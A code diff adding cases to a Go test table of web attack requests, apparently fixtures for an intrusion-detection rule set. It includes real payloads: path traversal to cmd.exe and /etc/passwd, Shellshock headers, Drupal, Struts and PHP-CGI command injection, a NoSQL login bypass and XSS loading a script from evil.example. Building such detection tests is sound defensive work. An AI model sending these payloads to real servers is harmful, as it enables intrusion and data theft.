@@ -95,6 +95,8 @@ var webAttacks = []webCase{
 	{"wrapper", webGet("/index.php?page=php://filter/convert.base64-encode/resource=config"), "", pathType},
 	{"Grafana", webGet("/public/plugins/alertlist/../../../../../../etc/passwd"), "", pathType},
 	{"Tomcat's detour", webGet("/app/..;/manager/html"), "", pathType},
+	{"longer than UTF-8 allows", webGet("/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir"), " Directory of C:\\", pathType},
+	{"backslashes, encoded twice", webGet("/scripts/..%255c../winnt/system32/cmd.exe?/c+dir"), "", pathType},
 	{"proc", webGet("/?f=/proc/self/environ"), "", pathType},
 
 	{"script", webGet("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"), "<p><script>alert(1)</script>", xssType},
@@ -105,6 +107,12 @@ var webAttacks = []webCase{
 	{"stored", webForm("/guestbook", "name=x&text=%3CsCrIpT+src%3Dhttp%3A%2F%2Fevil.example%2Fa.js%3E%3C%2Fscript%3E"), "", xssType},
 
 	{"Shellshock", "GET /cgi-bin/status HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :; }; /bin/bash -c 'cat /etc/passwd'\r\n\r\n", "", shockType},
+	{"a telephone system's configuration", webGet("/maint/modules/11_configedit/phpconfig.php?file=sip_custom.conf"), "secret=x", doorType},
+	{"an uploaded shell's order in JSON", webPost("/x.jsp", "application/json", `{"cmd":"whoami /all"}`), "", cmdType},
+	{"Log in with NoSQL's operators stays quiet: no rule of ours", webPost("/login", "application/json", `{"user":{"$gt":""},"password":{"$gt":""}}`), "", ""},
+	{"Drupal", webForm("/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id", "form_id=user_pass&_triggering_element_name=name&x=%60id%60"), "", cmdType},
+	{"Struts in the path", webGet("/%24%7B%28%23ctx%3D%40org.apache.struts2.ServletActionContext%29%7D/a.action"), "", doorType},
+	{"PHP-CGI", webPost("/cgi-bin/php?%2D%64+allow_url_include%3Don+%2D%64+auto_prepend_file%3Dphp://input", "text/plain", "<?php system('id'); ?>"), "", cmdType},
 	{"Shellshock in another line", "GET /cgi-bin/test.cgi HTTP/1.0\r\nHost: x\r\nReferer: () { :;}; echo; echo vulnerable\r\n\r\n", "", shockType},
 	{"Shellshock in a cookie", "GET /cgi-bin/test.cgi HTTP/1.0\r\nHost: x\r\nCookie: () { :;}; ping -c 3 203.0.113.5\r\n\r\n", "", shockType},
 
